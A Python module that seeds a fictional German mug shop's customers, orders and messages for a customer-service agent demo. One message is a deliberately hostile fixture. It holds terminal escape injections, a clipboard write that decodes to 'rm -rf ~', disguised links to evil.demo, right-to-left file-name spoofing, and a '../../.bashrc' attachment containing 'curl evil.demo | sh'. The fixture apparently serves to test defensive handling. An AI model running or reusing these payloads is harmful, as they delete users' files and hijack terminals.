"""The demo shop, its customers and what they write: seeded history and live messages.

Everything here is plain data built from a seeded `random.Random`, so a demo run is repeatable and
the tests can name what they expect. Nothing in this module talks to a server; the sandbox puts the
messages where the real connectors fetch them.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime, formataddr, make_msgid

from agent_tui.subjects import reply_subject

SHOP_NAME = "Tassenwerk"
SHOP_MAIL = "service@tassenwerk.demo"
SHOP_MAIL_PASSWORD = "demo-mail-password"
SHOP_NUMBER = "+4930555010"                      # SMS and WhatsApp
TELEGRAM_TOKEN = "123456:DEMO-tassenwerk-bot-token"
AGENT_NAME = "Mia"
ORDER_REGEX = r"\b(?P<number>TW-\d{5})\b"
HISTORY_DAYS = 21

CHANNELS = ("email", "sms", "whatsapp", "telegram")


@dataclass(frozen=True, slots=True)
class Customer:
    name: str
    lang: str                 # de | en
    channel: str              # email | sms | whatsapp | telegram
    address: str              # email address, E.164 number, or Telegram user id (digits)

    @property
    def first_name(self) -> str:
        return self.name.split()[0]

    @property
    def twilio_address(self) -> str:
        return f"whatsapp:{self.address}" if self.channel == "whatsapp" else self.address


@dataclass(frozen=True, slots=True)
class Message:
    """One thing a customer (or, in history, we) wrote."""

    customer: Customer
    text: str
    subject: str = ""                                  # mail only
    sent_at: datetime = field(default_factory=lambda: datetime.now(UTC))
    outbound: bool = False                             # True: our reply, seeded as history
    message_id: str = ""                               # mail only
    in_reply_to: str = ""                              # mail only
    headers: tuple[tuple[str, str], ...] = ()          # extra mail headers
    sender_name: str = ""                              # mail: overrides the customer's name
    sender_address: str = ""                           # mail: overrides the customer's address
    kind: str = "question"                             # question | thanks | complaint | ...
    attachments: tuple[tuple[str, str, bytes], ...] = ()   # mail: (file name, MIME type, bytes)

    def mail_bytes(self) -> bytes:
        """The message as mail on the wire (inbound: customer to shop; outbound: shop to them)."""
        mail = EmailMessage(policy=SMTP)
        customer = formataddr((self.sender_name or self.customer.name,
                               self.sender_address or self.customer.address))
        shop = formataddr((f"{SHOP_NAME} Kundenservice", SHOP_MAIL))
        mail["From"] = shop if self.outbound else customer
        mail["To"] = customer if self.outbound else shop
        mail["Subject"] = self.subject
        mail["Date"] = format_datetime(self.sent_at)
        mail["Message-ID"] = self.message_id or make_msgid(domain="kunde.demo")
        if self.in_reply_to:
            mail["In-Reply-To"] = self.in_reply_to
            mail["References"] = self.in_reply_to
        for name, value in self.headers:
            mail[name] = value
        mail.set_content(self.text)
        for name, mime_type, content in self.attachments:
            main_type, sub_type = mime_type.split("/", 1)
            mail.add_attachment(content, maintype=main_type, subtype=sub_type, filename=name)
        return mail.as_bytes()


# A 1x1 PNG: the photo of the broken mug.
PHOTO = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                      "1f15c4890000000d49444154789c6360f8cfc000000301010018dd8db4"
                      "0000000049454e44ae426082")


# --- the shop's orders, known to the demo enricher ----------------------------------------------

_STATUSES = {
    "de": ["versandt", "in Bearbeitung", "zugestellt", "versandt"],
    "en": ["shipped", "being packed", "delivered", "shipped"],
}
_CARRIERS = ("DHL", "Hermes", "DPD")


def orders(today: date | None = None) -> dict[str, dict[str, str]]:
    """TW-10001 .. TW-10060 with status, ship date and tracking link (German status words)."""
    today = today or datetime.now(UTC).date()
    known: dict[str, dict[str, str]] = {}
    for index in range(60):
        number = f"TW-{10001 + index}"
        status = _STATUSES["de"][index % 4]
        shipped = today - timedelta(days=index % 9)
        carrier = _CARRIERS[index % 3]
        known[number] = {
            "number": number,
            "status": status,
            "shipped_on": shipped.strftime("%d.%m.%Y") if status != "in Bearbeitung" else "",
            "carrier": carrier,
            "tracking_url": f"https://tracking.demo/{carrier.lower()}/{number}",
            "total": f"{19.9 + index * 3.5:.2f} EUR",
        }
    return known


ORDER_NUMBERS = tuple(orders(date(2000, 1, 1)))


# --- customers --------------------------------------------------------------------------------

def _mail_address(name: str, lang: str) -> str:
    first, last = name.lower().replace("ü", "ue").replace("ä", "ae").replace("ö", "oe").split()
    return f"{first}.{last}@{'kunde' if lang == 'de' else 'customer'}.demo"


def _customers() -> tuple[Customer, ...]:
    german = ["Anna Schmidt", "Lukas Müller", "Sophie Weber", "Jonas Becker", "Marie Fischer",
              "Felix Wagner", "Lena Hoffmann", "Paul Schäfer", "Emma Koch", "Ben Richter",
              "Hannah Klein", "Leon Wolf", "Mia Schröder", "Noah Neumann", "Lea Schwarz"]
    english = ["Oliver Smith", "Amelia Jones", "Harry Taylor", "Isla Brown", "Jack Wilson",
               "Ava Davies", "George Evans", "Grace Thomas"]
    people: list[Customer] = []
    for index, name in enumerate(german + english):
        lang = "de" if name in german else "en"
        channel = CHANNELS[index % 4]
        if channel == "email":
            address = _mail_address(name, lang)
        elif channel == "telegram":
            address = str(700000100 + index)
        else:
            address = f"+49151{5550100 + index}"
        people.append(Customer(name, lang, channel, address))
    return tuple(people)


CUSTOMERS = _customers()


def customers_on(channel: str, lang: str | None = None) -> list[Customer]:
    return [c for c in CUSTOMERS if c.channel == channel and (lang is None or c.lang == lang)]


# --- what customers ask, and how we answered in the past --------------------------------------

# (subject, text, our answer); {order} is replaced by an order number.
QUESTIONS: dict[str, list[tuple[str, str, str]]] = {
    "de": [
        ("Wo bleibt meine Bestellung?",
         "Hallo, ich habe letzte Woche bestellt (Bestellung {order}) und noch nichts bekommen. "
         "Wann kommt mein Paket?",
         "Ihre Bestellung {order} ist unterwegs, die Sendungsverfolgung finden Sie im Konto."),
        ("Lieferzeit", "Wie lange dauert die Lieferung, wenn ich heute bestelle?",
         "Lagerware verschicken wir am selben Tag, die Lieferung dauert 1-3 Werktage."),
        ("Versandkosten", "Was kostet der Versand? Ab wann ist er kostenlos?",
         "Der Versand kostet 4,90 EUR und ist ab 50 EUR kostenlos."),
        ("Rücksendung", "Die Tasse gefällt mir leider nicht. Wie kann ich sie zurückschicken?",
         "Sie können innerhalb von 30 Tagen zurücksenden, das Etikett gibt es im Retourenportal."),
        ("Tasse kaputt angekommen",
         "Guten Tag, in meiner Bestellung {order} war eine Tasse zerbrochen. Was nun?",
         "Das tut uns leid! Wir schicken Ihnen sofort Ersatz, ein Foto genügt."),
        ("Rechnung", "Können Sie mir die Rechnung zu Bestellung {order} noch einmal schicken?",
         "Gern, die Rechnung hängt an dieser Mail."),
        ("Zahlung", "Kann ich auch per PayPal oder auf Rechnung bezahlen?",
         "Ja: PayPal, Kreditkarte, Vorkasse und Kauf auf Rechnung."),
        ("Gutschein", "Mein Gutscheincode wird im Warenkorb nicht angenommen.",
         "Bitte prüfen Sie den Mindestbestellwert; ich habe den Code für Sie verlängert."),
        ("Adresse ändern", "Ich bin umgezogen, kann ich die Lieferadresse für {order} ändern?",
         "Ich habe die Adresse geändert, das Paket geht an die neue Anschrift."),
        ("Öffnungszeiten", "Wann ist Ihr Laden in Berlin geöffnet?",
         "Unser Laden ist Mo-Fr 10-19 Uhr und Sa 10-16 Uhr geöffnet."),
        ("Wieder lieferbar?", "Wann ist die blaue Espressotasse wieder lieferbar?",
         "Die blaue Espressotasse ist ab nächster Woche wieder da."),
    ],
    "en": [
        ("Where is my order?",
         "Hi, I ordered ten days ago (order {order}) and nothing has arrived. Where is my parcel?",
         "Your order {order} has shipped; the tracking link is in your account."),
        ("Shipping to the UK", "Do you ship to the UK, and will I have to pay customs?",
         "We ship to the UK for 12.90 EUR; duties are paid by the recipient."),
        ("Return", "How do I return an item? The colour is not what I expected.",
         "Returns are free within 30 days; register at https://shop.example/returns."),
        ("Broken mug", "One mug from order {order} arrived broken. Can you send a new one?",
         "So sorry! A replacement is on its way, no need to send the broken one back."),
        ("Payment", "Can I pay with PayPal?", "Yes, we accept PayPal, cards and bank transfer."),
        ("Delivery time", "How long does delivery to Ireland take?",
         "Delivery to Ireland takes 3-6 working days."),
        ("Invoice", "Could you send me the invoice for order {order}?",
         "Of course, the invoice is attached."),
    ],
}
THANKS = {"de": ["Danke für die schnelle Antwort!", "Super, vielen Dank!", "Alles klar, danke."],
          "en": ["Thanks a lot!", "Great, thank you!", "Perfect, thanks for the quick reply."]}


def history(rng: random.Random, now: datetime, conversations: int = 130) -> list[Message]:
    """A few hundred messages over the past three weeks: questions, our answers, thanks.

    Telegram has no history: the Bot API cannot hand out old updates, so its customers only
    write live. The last two hours carry a small wave of parcel-delay questions, so the early
    warning has something to show.
    """
    messages: list[Message] = []
    seeded_channels = ("email", "email", "sms", "whatsapp")
    for index in range(conversations):
        channel = rng.choice(seeded_channels)
        customer = rng.choice(customers_on(channel))
        wave = index >= conversations - 8
        if wave:
            started = now - timedelta(minutes=rng.randint(10, 110))
            subject, text, answer = QUESTIONS[customer.lang][0]
        else:
            started = now - timedelta(days=rng.uniform(0.3, HISTORY_DAYS))
            subject, text, answer = rng.choice(QUESTIONS[customer.lang])
        order = rng.choice(ORDER_NUMBERS)
        question = Message(customer, text.format(order=order), subject.format(order=order),
                           started, message_id=f"<history-{index}@kunde.demo>")
        messages.append(question)
        answered_at = started + timedelta(hours=rng.uniform(0.2, 20))
        if wave or answered_at > now - timedelta(minutes=30) or rng.random() < 0.15:
            continue                    # still waiting for us: part of today's queue
        greeting = {"de": f"Hallo {customer.first_name},", "en": f"Hi {customer.first_name},"}
        signature = {"de": f"Viele Grüße\n{AGENT_NAME}", "en": f"Best regards\n{AGENT_NAME}"}
        reply_text = (f"{greeting[customer.lang]}\n\n{answer.format(order=order)}\n\n"
                      f"{signature[customer.lang]}")
        if channel != "email":
            reply_text = answer.format(order=order)
        messages.append(Message(customer, reply_text, reply_subject(question.subject),
                                answered_at, outbound=True,
                                message_id=f"<history-{index}-reply@tassenwerk.demo>",
                                in_reply_to=question.message_id, kind="answer"))
        thanked_at = answered_at + timedelta(minutes=rng.uniform(5, 600))
        if rng.random() < 0.35 and thanked_at < now - timedelta(minutes=30):
            messages.append(Message(customer, rng.choice(THANKS[customer.lang]),
                                    reply_subject(question.subject), thanked_at,
                                    message_id=f"<history-{index}-thanks@kunde.demo>",
                                    in_reply_to=f"<history-{index}-reply@tassenwerk.demo>",
                                    kind="thanks"))
    return sorted(messages, key=lambda m: m.sent_at)


# --- live: the customers who keep writing while you work --------------------------------------

HOSTILE_SUBJECT = "\x1b[2J\x1b[31mDRINGEND\x1b[0m [bold red]Rechnung[/] \u202egnp.exe"
HOSTILE_TEXT = (
    "Hallo,\x1b]52;c;cm0gLXJmIH4=\x07 bitte sofort ansehen: "
    "[link=https://evil.demo]Sendungsverfolgung[/link]\n"
    "\x1b]8;;https://evil.demo\x07hier klicken\x1b]8;;\x07 \u202eTW-10003 fdp.exe\u202c\n"
    "\x1bP+q544e\x1b\\[reverse]versteckt[/reverse] \x9b31m\r\x1b[1A\x1b[2KAlles erledigt.")


def opening_wave(rng: random.Random) -> list[Message]:
    """What arrives right after the demo starts: every channel, every kind of message."""
    de_mail, en_mail = customers_on("email", "de")[0], customers_on("email", "en")[0]
    de_sms, en_sms = customers_on("sms", "de")[0], customers_on("sms", "en")[0]
    de_wa, en_wa = customers_on("whatsapp", "de")[0], customers_on("whatsapp", "en")[0]
    de_tg, en_tg = customers_on("telegram", "de")[0], customers_on("telegram", "en")[0]
    return [
        Message(de_mail, "Hallo, wo bleibt meine Bestellung TW-10004? Ich warte seit einer "
                "Woche auf das Paket.\n\nViele Grüße\nAnna", "Bestellung TW-10004",
                kind="order"),
        Message(en_wa, "Hi! Where is my order TW-10010? Has it shipped yet?", kind="order"),
        Message(de_sms, "Hallo, wie kann ich die Vase zurückschicken? Sie gefällt mir nicht.",
                kind="return"),
        Message(de_tg, "Hallo! Wann kommt meine Bestellung TW-10021?", kind="order"),
        Message(en_mail, "This is the THIRD time I am writing!!! Order TW-10007 arrived "
                "completely smashed and NOBODY answers. I want my money back today or I will "
                "tell everyone about this shop.", "Broken order - third time!!!",
                kind="complaint"),
        Message(de_mail, "Neue Herbstkollektion: 20 % auf alle Teekannen! Abmelden: "
                "https://newsletter.demo/unsubscribe", "Unser Herbst-Newsletter",
                sender_name="Porzellan Großhandel", sender_address="news@grosshandel.demo",
                headers=(("List-Id", "<news.grosshandel.demo>"), ("Precedence", "bulk"),
                         ("List-Unsubscribe", "<https://newsletter.demo/unsubscribe>")),
                kind="newsletter"),
        Message(customers_on("email", "de")[1], "Ich bin bis zum 30. nicht im Büro und lese "
                "keine Mails. In dringenden Fällen: zentrale@kunde.demo",
                "Automatische Antwort: Ihre Bestellung",
                headers=(("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes")),
                kind="auto-reply"),
        Message(customers_on("email", "de")[2], HOSTILE_TEXT, HOSTILE_SUBJECT,
                sender_name="DHL \x1b[5mSupport\x1b[0m [blink]", kind="hostile",
                attachments=(("../../.bashrc", "text/plain", b"curl evil.demo | sh\n"),)),
        Message(en_tg, "Hello, do you ship to the UK? How much is it?", kind="question"),
        Message(en_sms, "Hi, can I pay with PayPal?", kind="question"),
        Message(de_wa, "Guten Tag, eine Tasse aus Bestellung TW-10013 war kaputt. "
                "Was kann ich tun?", kind="damaged"),
        # The WhatsApp customer again, by mail: the number in her signature proposes a merge.
        Message(Customer(de_wa.name, "de", "email", _mail_address(de_wa.name, "de")),
                "Hallo, ich hatte Ihnen schon per WhatsApp geschrieben: das Foto der kaputten "
                f"Tasse hängt hier an.\n\nViele Grüße\n{de_wa.name}\nTel. {de_wa.address}",
                "Kaputte Tasse", attachments=(("tasse.png", "image/png", PHOTO),),
                kind="same-person"),
    ]


def live_messages(rng: random.Random) -> Iterator[Message]:
    """Endless: more customers with questions from the knowledge file, in German and English."""
    while True:
        customer = rng.choice(CUSTOMERS)
        subject, text, _ = rng.choice(QUESTIONS[customer.lang])
        order = rng.choice(ORDER_NUMBERS)
        yield Message(customer, text.format(order=order), subject.format(order=order))


def thanks_for(customer: Customer, rng: random.Random, *, subject: str = "",
               in_reply_to: str = "") -> Message:
    """A customer's thanks for a reply (mail: in the reply's thread)."""
    return Message(customer, rng.choice(THANKS[customer.lang]),
                   reply_subject(subject) if subject else "",
                   in_reply_to=in_reply_to, kind="thanks")
